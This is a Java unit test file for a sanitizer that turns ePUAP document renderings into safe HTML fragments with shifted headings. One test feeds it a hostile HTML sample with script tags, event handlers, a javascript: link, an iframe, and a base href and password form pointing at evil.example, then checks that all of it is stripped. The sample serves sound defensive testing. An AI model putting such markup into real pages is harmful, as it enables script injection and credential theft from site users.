package pl.ezd.epuap.control;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** The rendering shown inside a page: readable, clean, and unable to act on the page around it. */
class EpuapHtmlFragmentTest {

    @Test
    void theGenericRenderingKeepsItsTextAndStructureUnderThePagesHeadings() throws Exception {
        String html = new EpuapRendering(null).html(EpuapDocumentsTest.resource("pismo-ogolne.xml")).html();

        String fragment = EpuapHtmlFragment.of(html, 3);

        assertThat(fragment)
                .contains("<h3>Wniosek o wycinkę drzewa – ul. Źródlana 5</h3>")
                .contains("<section aria-labelledby=\"epuap-doc-nadawcy\">", "<h4 id=\"epuap-doc-nadawcy\">Nadawca</h4>")
                .contains("Grzegorz Brzęczyszczykiewicz", "<address>", "<dd>wniosek</dd>", "<ol>")
                .contains("Dokument nie zawiera podpisu elektronicznego.")
                .doesNotContain("<main", "<header", "<footer", "<style", "<html", "<body", "<h1", "<title", "font-family");
    }

    @Test
    void whateverAStylesheetProducedNothingActiveIsLeft() {
        String hostile = """
                <html><head><script>alert(1)</script><style>body{display:none}</style><base href="http://evil.example/"/></head>
                <body onload="steal()"><h1 class="ui-dialog" style="position:fixed" onclick="x()">Tytuł pisma</h1>
                <p>Treść <a href="javascript:alert(2)">kliknij</a> <img src="http://evil.example/x.png" onerror="y()"/>
                <iframe src="http://evil.example/"></iframe><form action="http://evil.example/"><input name="j_password"/></form></p>
                <svg><script>z()</script></svg><p>&lt;script&gt;tekst&lt;/script&gt; zostaje tekstem</p>
                <h2 id="login-form">Sekcja</h2></body></html>
                """;

        String fragment = EpuapHtmlFragment.of(hostile, 3);

        assertThat(fragment)
                .contains("<h3>Tytuł pisma</h3>", "kliknij", "&lt;script&gt;tekst&lt;/script&gt; zostaje tekstem")
                .contains("<h4 id=\"epuap-doc-login-form\">Sekcja</h4>")
                .doesNotContain("<script", "alert", "<style", "<base", "onload", "onclick", "onerror", "class=", "style=", "<a ",
                        "<img", "<iframe", "<form", "<input", "<svg", "evil.example");
    }

    @Test
    void headingsNeverGoBelowSix() {
        assertThat(EpuapHtmlFragment.of("<h5>a</h5><h6>b</h6>", 3)).isEqualTo("<h6>a</h6><h6>b</h6>");
        assertThat(EpuapHtmlFragment.of(null, 3)).isEmpty();
    }
}
